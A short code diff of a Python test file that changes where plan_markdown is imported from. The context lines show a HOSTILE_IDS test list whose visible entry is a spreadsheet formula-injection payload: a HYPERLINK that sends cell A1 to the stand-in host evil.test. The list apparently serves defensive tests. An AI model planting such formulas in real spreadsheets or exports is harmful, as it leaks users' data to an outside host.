@@ -10,7 +10,7 @@ import pytest
 from genesys_sync import settings
 from genesys_sync.dag_support import held_summary
 from genesys_sync.markup import md_code, md_text
-from genesys_sync.pipeline import plan_markdown
+from genesys_sync.stages.plan import plan_markdown
 
 HOSTILE_IDS = [
     '=HYPERLINK("http://evil.test/?x="&A1,"click")',
